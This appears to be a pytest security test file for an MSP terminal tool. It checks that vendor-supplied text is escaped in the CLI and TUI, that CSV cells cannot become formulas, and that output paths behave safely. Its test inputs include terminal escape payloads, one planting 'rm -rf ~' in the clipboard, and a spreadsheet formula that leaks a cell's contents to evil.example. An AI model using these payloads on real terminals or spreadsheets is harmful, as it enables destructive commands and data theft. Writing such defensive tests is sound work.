"""Nothing a vendor (or the PSA, or a CSV file) sends acts on the operator's terminal, becomes a
spreadsheet formula, or changes what an output path is."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest
from pilot_tools import wait_until

from msp_tui.app import MspTuiApp
from msp_tui.cli import main
from msp_tui.store.db import open_store, resolve_location
from msp_tui.store.models import Alert, Integration, PsaCompany, VendorAccount, utcnow
from msp_tui.sync import sync_pull
from msp_tui.untrusted import csv_cell, printable
from screens.alerts import AlertsScreen
from screens.home import Card
from screens.reconcile import ReconcileScreen
from serve_process import api_client, rejection, start_serve, stop_serve

# What must never reach a terminal raw: C0 (ESC, BEL, NUL ...), DEL, C1 (8-bit CSI).
RAW_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
TITLE = "Disk full\x1b]0;PWNED-TITLE\x07"
CLIPBOARD = "Acme\x1b]52;c;cm0gLXJmIH4=\x07 Dental\x9b31m"


def test_printable_shows_controls_as_escapes() -> None:
    assert printable(TITLE) == "Disk full\\x1b]0;PWNED-TITLE\\x07"
    assert printable("a\x00b\x7fc\x9bd\u202ee") == "a\\x00b\\x7fc\\x9bd\\u202ee"
    assert printable("line one\nline two\tend") == "line one\\nline two\\tend"
    assert printable("line one\nline two\tend", lines=True) == "line one\nline two\tend"
    assert printable("Zürich GmbH — 株式会社") == "Zürich GmbH — 株式会社"  # text stays text


def test_csv_cells_never_become_formulas() -> None:
    for formula in ('=HYPERLINK("http://x","y")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(formula) == "'" + formula
    for number in ("-5", "+3", "-2.5", "1e3", "12"):
        assert csv_cell(number) == number
    assert csv_cell("Acme") == "Acme"


def hostile_alert(integration: Integration, account: VendorAccount) -> Alert:
    """An alert as an older msp-tui (which stored control characters) left it."""
    now = utcnow()
    return Alert.create(integration=integration, account_external_id=account.external_id,
                        vendor_account=account, alert_id="a1", message_id="m1", title=TITLE,
                        description="It is \x1b[2Jfull", priority=2, created_at=now,
                        updated_at=now, state="failed",
                        errors=["PSA said: \x1b[31mno"])  # fmt: skip


def test_the_cli_escapes_what_vendors_sent_end_to_end(
    db_path: Path, partner_key: str, capsys
) -> None:
    served = start_serve(db_path)
    try:
        with api_client(served, partner_key) as api:
            # The Vendor API refuses control characters outright ...
            rejection(api.post("/organization/accounts", json=[{"id": "1", "name": TITLE}]), 400)
            # ... and takes a name that is only dangerous in a spreadsheet: it is text.
            formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
            accounts = [{"id": "1", "name": formula}, {"id": "2", "name": "-Acme"}]
            assert api.post("/organization/accounts", json=accounts).status_code == 201
            services = [{"id": "s1", "name": "@CloudFilter"}]
            assert api.post("/organization/services", json=services).status_code == 201
            for account in ("1", "2"):
                counted = api.post("/service/s1/count", json={"accountId": account, "unitCount": 3})
                assert counted.status_code == 201
    finally:
        stop_serve(served)
    open_store(resolve_location(str(db_path)))
    integration = Integration.get()
    account = VendorAccount.get(VendorAccount.external_id == "1")
    VendorAccount.update(description="\x1b[2J").where(VendorAccount.id == account.id).execute()
    hostile_alert(integration, account)
    capsys.readouterr()

    assert main(["--db", str(db_path), "alerts", "list"]) == 0
    shown = capsys.readouterr().out
    assert not RAW_CONTROL.search(shown) and "\\x1b]0;PWNED-TITLE\\x07" in shown
    assert main(["--db", str(db_path), "alerts", "list", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)[0]["title"] == TITLE  # JSON stays exact

    assert main(["--db", str(db_path), "export", "usage"]) == 0
    out = capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(out)))
    names = {r["vendor_account_name"] for r in rows}
    assert names == {"'" + formula, "'-Acme"}
    assert {r["service_name"] for r in rows} == {"'@CloudFilter"}
    assert {r["quantity"] for r in rows} == {"3"}  # numbers stay numbers
    assert main(["--db", str(db_path), "export", "usage", "--raw"]) == 0
    raw = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert {r["vendor_account_name"] for r in raw} == {formula, "-Acme"}


async def test_a_pulled_name_with_escapes_is_shown_escaped(mapped, capsys) -> None:
    """SpamTitan is untrusted too: a domain group named with escape sequences."""
    demo, ctx = mapped
    group = next(iter(demo.world.domain_groups.values()))
    demo.world.domain_groups[group.id] = replace(group, name=CLIPBOARD)
    integration = Integration.get(Integration.name == "spamtitan")
    assert (await sync_pull(integration, ctx.secrets, mode="full")).ok
    assert VendorAccount.get(VendorAccount.name == CLIPBOARD)  # stored exactly as sent
    db = str(demo.store)
    assert main(["--db", db, "export", "usage"]) == 0
    out = capsys.readouterr().out
    assert not RAW_CONTROL.search(out)
    assert "Acme\\x1b]52;c;cm0gLXJmIH4=\\x07 Dental\\x9b31m" in out
    assert main(["--db", db, "export", "mappings", "--format", "json"]) == 0
    data = capsys.readouterr().out
    assert not RAW_CONTROL.search(data)  # JSON escapes them ...
    assert CLIPBOARD in {r["vendor_name"] for r in json.loads(data)}  # ... and keeps them


async def test_the_tui_shows_hostile_text_escaped(mapped) -> None:
    demo, ctx = mapped
    VendorAccount.update(name=CLIPBOARD + " " + VendorAccount.name).execute()
    PsaCompany.update(name=TITLE + " " + PsaCompany.name).execute()
    integration = Integration.get(Integration.name == "spamtitan")
    hostile_alert(integration, VendorAccount.select().first())
    app = MspTuiApp(ctx, serve_port=0, demo=demo)

    def clean(expected: str) -> bool:
        shot = app.export_screenshot().replace("&#160;", " ")
        assert not RAW_CONTROL.search(shot), RAW_CONTROL.search(shot)
        return expected in shot

    async with app.run_test(size=(100, 30), notifications=True) as pilot:
        await wait_until(pilot, lambda: isinstance(app.focused, Card))
        await pilot.press("c")  # reconciliation: PSA company names
        await wait_until(pilot, lambda: isinstance(app.screen, ReconcileScreen))
        await wait_until(pilot, lambda: clean("PWNED-TITLE\\x07"))
        app.notify("\x1b]0;t\x07[b]x[/b]")  # a toast (short: a toast wraps long lines)
        await wait_until(pilot, lambda: clean("\\x1b]0;t\\x07[b]x[/b]"))
        await pilot.press("escape", "a")  # alerts: the title, the PSA's error
        await wait_until(pilot, lambda: isinstance(app.screen, AlertsScreen))
        await wait_until(pilot, lambda: clean("Disk full\\x1b]0;PWNED-TITLE\\x07"))
        await pilot.press("escape")
        await wait_until(pilot, lambda: isinstance(app.focused, Card))
        while app.focused.card.key != "spamtitan":
            await pilot.press("down")
        await pilot.press("enter", "m")  # the accounts board: vendor and PSA names
        await wait_until(pilot, lambda: app.screen.query("MappingPanel"))
        await wait_until(pilot, lambda: clean("Acme\\x1b]52;c;cm0gLXJmIH4=\\x07"))


# --- output paths --------------------------------------------------------------------------


def run_cli(*args: str, **kwargs) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "msp_tui", *args], capture_output=True,
                          text=True, timeout=120, **kwargs)  # fmt: skip


@pytest.fixture
def match_inputs(tmp_path: Path) -> tuple[Path, Path]:
    vendor, psa = tmp_path / "vendor.csv", tmp_path / "psa.csv"
    vendor.write_text("id,name\nv1,Acme Dental\n")
    psa.write_text("id,name\n10,Acme Dental Inc\n")
    return vendor, psa


def match_to(out: Path, vendor: Path, psa: Path) -> subprocess.CompletedProcess:
    return run_cli("match", "--vendor", str(vendor), "--psa", str(psa), "--out", str(out))


def test_out_writes_through_a_fifo_and_keeps_it_a_fifo(tmp_path: Path, match_inputs) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    reader = subprocess.Popen(["cat", str(fifo)], stdout=subprocess.PIPE, text=True)
    done = match_to(fifo, *match_inputs)
    out, _ = reader.communicate(timeout=60)
    assert done.returncode == 0, done.stderr
    assert out.startswith("vendor_id,psa_id,decision,score,reason\nv1,10,auto")
    assert stat.S_ISFIFO(fifo.lstat().st_mode)


def test_out_through_a_symlink_keeps_the_link(tmp_path: Path, match_inputs) -> None:
    target = tmp_path / "real.csv"
    target.write_text("old\n")
    target.chmod(0o640)
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    done = match_to(link, *match_inputs)
    assert done.returncode == 0, done.stderr
    assert link.is_symlink() and link.resolve() == target
    assert target.read_text().startswith("vendor_id,psa_id")
    assert stat.S_IMODE(target.stat().st_mode) == 0o640  # its permissions kept


def test_out_to_a_device_node_writes_through_it(tmp_path: Path, match_inputs) -> None:
    null = tmp_path / "null"
    try:
        os.mknod(null, stat.S_IFCHR | 0o666, os.makedev(1, 3))  # what /dev/null is
    except PermissionError:
        pytest.skip("making a device node needs root")
    done = match_to(null, *match_inputs)
    assert done.returncode == 0, done.stderr
    assert stat.S_ISCHR(null.lstat().st_mode)  # still the device, not a regular file
    full = tmp_path / "full"
    os.mknod(full, stat.S_IFCHR | 0o666, os.makedev(1, 7))  # what /dev/full is
    failed = match_to(full, *match_inputs)
    assert failed.returncode == 1 and "No space left on device" in failed.stderr
    assert "Traceback" not in failed.stderr and stat.S_ISCHR(full.lstat().st_mode)


def test_out_refuses_a_directory_and_a_missing_folder(tmp_path: Path, match_inputs) -> None:
    into_dir = match_to(tmp_path, *match_inputs)
    assert into_dir.returncode == 1 and "it is a directory" in into_dir.stderr
    nowhere = match_to(tmp_path / "missing" / "out.csv", *match_inputs)
    assert nowhere.returncode == 1 and "does not exist" in nowhere.stderr
    for done in (into_dir, nowhere):
        assert "Traceback" not in done.stderr
